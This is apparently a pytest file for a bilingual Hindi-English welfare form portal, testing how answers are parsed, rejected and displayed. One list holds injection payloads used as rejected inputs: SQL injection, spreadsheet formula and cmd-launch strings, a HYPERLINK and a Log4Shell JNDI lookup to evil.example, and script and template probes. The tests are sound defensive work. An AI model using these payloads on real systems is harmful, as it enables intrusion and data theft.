from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.forms.catalogue import forms
from portal.forms.schema import FormField
from portal.forms.values import NotAnAnswer, Value, read, samagra, shown

DAY = date(2026, 11, 27)
FIELDS: dict[str, FormField] = {name: field for form in forms().values() for name, field in form.fields.items()}


@pytest.mark.parametrize(
    ("field", "words", "value"),
    [
        ("name", "  रामप्यारी   बाई ", "रामप्यारी बाई"),
        ("name", "Mohd. D'Souza-Khan", "Mohd. D'Souza-Khan"),
        ("address", "मकान 12/4, वार्ड 7, गांधी नगर", "मकान 12/4, वार्ड 7, गांधी नगर"),
        ("birth_date", "5 जून 1990", "1990-06-05"),
        ("birth_date", "05/06/1990", "1990-06-05"),
        ("birth_date", "5 june 1990", "1990-06-05"),
        ("district", "जिला सीहोर", "sehore"),
        ("district", "sehor", "sehore"),
        ("income", "saal ki 1.5 lakh", 150000.0),
        ("income", "महीने के 8 हज़ार", 96000.0),
        ("members", "हम 6 लोग हैं", 6.0),
        ("ration_category", "बीपीएल कार्ड है", "bpl"),
        ("gender", "mahila", "female"),
        ("samagra_id", "123456789", "123456789"),
    ],
)
def test_an_answer_is_read_in_the_fields_type(field: str, words: str, value: Value) -> None:
    assert read(FIELDS[field], words, DAY) == value


@pytest.mark.parametrize(
    ("field", "words", "key"),
    [
        ("name", "R2D2", "form_not_a_name"),
        ("name", "x", "form_not_a_name"),
        ("name", "x" * 101, "form_not_a_name"),
        ("name", "राम 😀", "form_not_a_name"),
        ("address", "x" * 201, "form_not_plain_words"),
        ("address", "...", "form_not_plain_words"),
        ("birth_date", "जून 1990", "form_not_a_date"),
        ("birth_date", "1 जनवरी 2030", "form_date_not_past"),
        ("birth_date", "1 जनवरी 1850", "form_not_a_date"),
        ("district", "लखनऊ", "form_not_a_district"),
        ("district", "भोपाल या इंदौर", "form_not_a_district"),
        ("income", "बहुत कम", "form_not_a_number"),
        ("members", "60 लोग", "form_number_out_of_range"),
        ("members", "4 ya 5", "form_not_a_number"),
        ("ration_category", "पता नहीं", "form_not_a_choice"),
        ("samagra_id", "1234567", "form_not_a_samagra_id"),
    ],
)
def test_what_is_no_answer_says_what_would_be_one(field: str, words: str, key: str) -> None:
    with pytest.raises(NotAnAnswer) as error:
        read(FIELDS[field], words, DAY)
    assert error.value.key == key


INJECTED = [
    "Robert'); DROP TABLE applications;--",
    "' OR '1'='1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "+1+1",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "राम\u202eनाम",
    "राम\x00",
    "a\tb=c",
]


@pytest.mark.parametrize("words", INJECTED)
@pytest.mark.parametrize("field", ["name", "address"])
def test_what_means_something_to_a_program_is_not_taken(field: str, words: str) -> None:
    with pytest.raises(NotAnAnswer):
        read(FIELDS[field], words, DAY)


@given(st.text(max_size=60))
def test_whatever_is_taken_is_harmless_in_a_spreadsheet(words: str) -> None:
    for field in ("name", "address"):
        try:
            value = str(read(FIELDS[field], words, DAY))
        except NotAnAnswer:
            continue
        assert value[0] not in "=+-@\t\r"
        line = io.StringIO()
        csv.writer(line).writerow([value, "next"])
        assert next(csv.reader([line.getvalue()])) == [value, "next"]
        assert not set(value) & set('<>{}=+@|;"\\`$%&*\0\n\r\t')


def test_the_signs_of_a_name_are_kept_but_none_stands_first() -> None:
    assert read(FIELDS["name"], "-'राम'", DAY) == "राम"


def test_a_member_has_nine_digits_and_a_family_eight() -> None:
    member, family = FIELDS["samagra_id"], FIELDS["family_samagra_id"]
    assert (samagra(member, "123456789"), samagra(family, "12345678")) == ("123456789", "12345678")
    for field, digits in ((member, "12345678"), (family, "123456789")):
        with pytest.raises(NotAnAnswer):
            samagra(field, digits)


@pytest.mark.parametrize(
    ("field", "value", "hindi", "english"),
    [
        ("birth_date", "1990-06-05", "05-06-1990", "05-06-1990"),
        ("district", "sehore", "सीहोर", "Sehore"),
        ("income", 150000.0, "साल के 1,50,000 रुपये", "1,50,000 rupees a year"),
        ("members", 6.0, "6", "6"),
        ("gender", "female", "महिला", "woman"),
        ("members_ekyc", True, "हाँ", "yes"),
        ("samagra_id", None, "नहीं दिया", "left out"),
        ("name", "Rukmini", "Rukmini", "Rukmini"),
    ],
)
def test_a_value_is_read_back_in_words(field: str, value: Value | None, hindi: str, english: str) -> None:
    assert (shown(FIELDS[field], value, "hi"), shown(FIELDS[field], value, "en")) == (hindi, english)
